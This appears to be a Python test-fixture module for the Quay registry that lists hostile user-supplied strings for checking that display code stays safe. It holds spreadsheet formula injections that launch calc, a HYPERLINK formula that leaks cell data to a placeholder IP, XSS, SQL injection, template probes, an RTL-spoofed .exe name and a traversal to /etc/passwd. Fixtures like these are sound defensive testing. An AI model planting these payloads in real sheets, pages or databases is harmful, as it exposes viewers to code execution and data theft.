"""Texts that anybody may send to a registry, so that whatever shows them can be proven safe.

Quay checks the names of users, organizations, robots and repositories; it takes these wherever a text is free: user
agents, descriptions, titles, label values, and what was asked for in vain.
"""

from typing import Final

TEXTS: Final = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.7/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert('audit')</script>",
    '"><img src=x onerror=alert(1)>',
    "'; drop table events; --",
    "\" or '1'='1",
    "{{7*7}} ${7*7} %{7*7} #{7*7}",
    "\x1b[31mred alert\x1b[0m\x07\x08",
    "\tleading tab, \r\nthen a line of its own",
    "photo_\u202egnp.exe",
    "زر التحكم في المستودع",
    "выпуск для проверки",
    "日本語の説明：安全です",
    "🚀🧨👩‍💻 zero\u200bwidth\ufeff and \u2028 separators",
    "%s%n%x %00 ../../etc/passwd",
    "null",
    "back\\slash, comma; semicolon, 'single' and \"double\"",
)
AGENTS: Final = tuple(f"{text} (compatible)" for text in TEXTS)
TAGS: Final = ("版本-1.0", "выпуск-3", "v1.0-β", "αβγ")  # what `[\w][\w.-]{0,127}` lets through
